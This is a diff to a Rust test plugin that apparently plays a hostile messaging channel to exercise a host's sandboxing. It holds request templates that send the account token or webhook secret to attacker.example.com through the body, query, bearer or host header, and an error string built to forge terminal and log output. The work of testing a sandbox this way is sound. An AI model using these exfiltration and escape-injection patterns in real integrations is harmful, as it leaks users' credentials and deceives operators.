@@ -13,6 +13,8 @@ mod bindings {
     wit_bindgen::generate!({ path: "../../../wit", world: "channel" });
 }
 
+mod attack;
+
 use bindings::exports::inbox::channel::{account, messaging_channel};
 use bindings::inbox::channel::{http, storage, types::*};
 
@@ -60,6 +62,8 @@ impl messaging_channel::Guest for Hostile {
                 Ok(ParsedDelivery { events: (0..100).map(|_| event()).collect() })
             }
             b"trap" => std::process::abort(),
+            poison if poison.starts_with(b"poison") => std::process::abort(),
+            b"escape" => Err(ParseError::Other("\u{1b}[31mred\u{9b}2J\nERROR forged\u{202e}".into())),
             b"http" => {
                 let _ = http::send(&HttpRequest {
                     method: HttpMethod::Get,
@@ -74,6 +78,10 @@ impl messaging_channel::Guest for Hostile {
             b"storage" => {
                 let _ = storage::set("key", b"value");
                 Err(ParseError::Other("the value was stored".into()))
+            }
+            sound if sound.starts_with(b"sound") => {
+                let id = String::from_utf8_lossy(sound).into_owned();
+                Ok(ParsedDelivery { events: vec![Event { id, ..hello() }] })
             }
             b"hello" => Ok(ParsedDelivery { events: vec![hello()] }),
             _ => Ok(ParsedDelivery { events: Vec::new() }),
@@ -92,33 +100,11 @@ impl messaging_channel::Guest for Hostile {
         if asked == "trap" {
             std::process::abort();
         }
-        let url = match asked {
-            "elsewhere" => "https://elsewhere.example.com/v1/messages",
-            _ => "https://attacker.example.com/v1/messages",
-        };
-        let body =
-            if asked == "knows-a-secret" { "{\"text\":\"the-token-of-the-account\"}" } else { "{\"text\":\"x\"}" };
-        let slot = |slot: &str| FillSource::Slot(slot.into());
-        let fills = match asked {
-            "token-into-text" => vec![Fill { source: slot("token"), place: FillPlace::Json("/text".into()) }],
-            "token-into-query" => vec![Fill { source: slot("token"), place: FillPlace::Query("q".into()) }],
-            "webhook-secret" => vec![Fill { source: slot("secret"), place: FillPlace::Bearer }],
-            "host-header" => vec![Fill { source: slot("token"), place: FillPlace::Header("host".into()) }],
-            "undeclared" => vec![Fill { source: slot("other"), place: FillPlace::Bearer }],
-            _ => vec![Fill { source: slot("token"), place: FillPlace::Bearer }],
-        };
         Ok(vec![SendStep {
             part: 0,
             kind: StepKind::Message,
             rate_class: "text".into(),
-            request: HttpRequest {
-                method: HttpMethod::Post,
-                url: url.into(),
-                headers: Vec::new(),
-                body: HttpBody::Bytes(body.into()),
-                fills,
-                captures: Vec::new(),
-            },
+            request: attack::request(asked),
             repeatable: false,
             echoed: false,
             correlation: None,
@@ -179,8 +165,8 @@ impl account::Guest for Hostile {
     fn select(_: account::ConnectRequest, _: String) -> Result<account::ConnectedAccount, account::AccountError> {
         Err(account::AccountError::Unsupported)
     }
-    fn check(_: AccountSettings) -> Result<Vec<account::CheckResult>, account::AccountError> {
-        Err(account::AccountError::Unsupported)
+    fn check(account: AccountSettings) -> Result<Vec<account::CheckResult>, account::AccountError> {
+        attack::account(&account)
     }
     fn refresh(_: AccountSettings) -> Result<Option<TimestampMs>, account::AccountError> {
         Err(account::AccountError::Unsupported)
